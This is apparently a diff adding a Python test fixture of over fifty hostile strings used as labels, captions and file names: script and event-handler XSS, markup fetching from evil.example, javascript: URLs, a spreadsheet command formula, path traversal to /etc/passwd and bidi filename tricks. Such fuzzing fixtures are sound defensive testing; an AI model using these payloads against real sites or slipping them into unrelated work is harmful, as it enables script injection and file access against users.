@@ -1,0 +1,67 @@
+"""Texts that want to be more than text: labels, captions, file and layer names."""
+
+RUN = "window.pwned=1"
+TEXTS = (
+    f"<script>{RUN}</script>",
+    f"</script><script>{RUN}</script>",
+    f"</title><script>{RUN}</script>",
+    f"</style><script>{RUN}</script>",
+    f"--><script>{RUN}</script>",
+    f"<!--<script>{RUN}//",
+    f"]]><script>{RUN}</script>",
+    f"<SCRIPT SRC=https://evil.example/x.js>{RUN}</SCRIPT>",
+    f"<img src=x onerror={RUN}>",
+    f'"><img src=x onerror={RUN}>',
+    f"'><img src=x onerror={RUN}>",
+    f'" onmouseover="{RUN}" x="',
+    f"' onfocus='{RUN}' autofocus='",
+    f"` onload=`{RUN}",
+    f"<svg onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x>",
+    f"<math><mtext><script>{RUN}</script></mtext></math>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    "<iframe src=https://evil.example/></iframe>",
+    "<object data=https://evil.example/></object>",
+    "<embed src=https://evil.example/>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<style>*{background:url(https://evil.example/b)}</style>",
+    "<base href=https://evil.example/>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
+    "<form action=https://evil.example/><input type=submit autofocus></form>",
+    f"<details open ontoggle={RUN}>",
+    f"<body onload={RUN}>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<video><source onerror={RUN}></video>",
+    f"<a href=javascript:{RUN}>x</a>",
+    f"javascript:{RUN}",
+    f"JaVaScRiPt:{RUN}//",
+    f"data:text/html,<script>{RUN}</script>",
+    f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    f"&#60;script&#62;{RUN}&#60;/script&#62;",
+    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
+    "{{ 7 * 7 }}{% include 'x' %}{# no #}",
+    f"${{{RUN}}}",
+    f'";{RUN};"',
+    f"';{RUN};//",
+    f"\u2028{RUN}\u2029{RUN}",
+    "__proto__",
+    "constructor",
+    '=HYPERLINK("https://evil.example/","x")',
+    "+1+cmd|' /C calc'!A0",
+    "../../../../etc/passwd",
+    "..\\..\\windows\\system32\\con",
+    "%2e%2e%2f%00",
+    "a\u202egnp.exe\u2066b\u0000c\u0007d\x1b[31m",
+    "https://evil.example/?q=#</script>",
+    "long " * 2_000 + "x" * 3_000,
+    "CON", "aux.html", " ", ".", "-rf *", "\u0301\u0301\u0301 zalgo \u200b\ufeff",
+)  # fmt: skip
+"""More than fifty; each is a label, a caption and, as far as a disk takes it, a file's name."""
+
+
+def file_name(number: int) -> str:
+    """A hostile name that a disk takes: no slash, no zero, at most 120 bytes."""
+    plain = TEXTS[number % len(TEXTS)].replace("/", "\u2215").replace("\0", "")
+    return plain.encode()[:120].decode(errors="ignore") + f" {number}.jpg"
